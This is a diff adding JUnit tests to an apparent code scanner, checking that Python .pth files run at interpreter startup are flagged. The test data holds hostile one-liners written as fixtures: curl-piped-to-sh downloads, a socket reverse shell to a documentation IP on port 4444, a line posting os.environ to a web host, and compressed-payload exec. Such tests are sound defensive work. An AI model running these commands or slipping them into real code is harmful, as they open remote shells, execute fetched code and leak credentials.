@@ -12,6 +12,8 @@ import dev.assay.engine.report.Severity;
 import dev.assay.engine.scan.RecordedReport;
 import java.util.List;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 
 /** The same source in the places where it may lie. */
 class PythonContextTest {
@@ -31,6 +33,40 @@ class PythonContextTest {
         assertThat(severity("modeling_x.py", "import os\ndef forward(x):\n    os.system(x)\n"))
                 .isEqualTo(Severity.MEDIUM);
         assertThat(Texts.scan("tool.py", "import os\ndef f(x):\n    os.system(x)\n")
+                        .findings())
+                .isEmpty();
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '#',
+            quoteCharacter = '`',
+            value = {
+                "import os;os.system(\"curl http://203.0.113.9/x|sh\") # code/python-shell-download",
+                "import subprocess; subprocess.run('curl -s http://203.0.113.9/x | sh', shell=True) # code/python-shell-download",
+                "import socket,os;s=socket.socket();s.connect(('203.0.113.9',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)]"
+                        + " # code/python-reverse-shell",
+                "import os,urllib.request as u; u.urlopen('https://example.net',data=str(os.environ).encode())"
+                        + " # code/python-credentials-sent",
+                "import os; exec(__import__('zlib').decompress(bytes.fromhex('789c'))) # code/python-decoded-execution"
+            })
+    void linesThatPythonRunsAsItStartsAreProgramsAmongFolders(String line, String rule) {
+        for (String text : List.of(line + "\n", "../it's\n" + line, "\ufeff" + line, "x\r" + line + "\rimport b\r")) {
+            assertThat(Texts.scan("x.pth", text).findings())
+                    .as(text)
+                    .extracting(Finding::ruleId)
+                    .contains(rule);
+        }
+        assertThat(Texts.scan("x.pth", "import site\n# " + line + "\n./" + line + "\n").findings())
+                .isEmpty();
+    }
+
+    @Test
+    void whatPythonDoesAsItStartsIsSaidToBeSo() {
+        assertThat(severity("x.pth", "import os; os.system('id')\n")).isEqualTo(Severity.HIGH);
+        assertThat(severity("x.pth", "import os, sys; os.kill(1, 9); exec(open('/tmp/x').read())\n"))
+                .isEqualTo(Severity.MEDIUM);
+        assertThat(Texts.scan("x.pth", "import os; e = os.environ.get('X'); e and __import__('_x')\n")
                         .findings())
                 .isEmpty();
     }
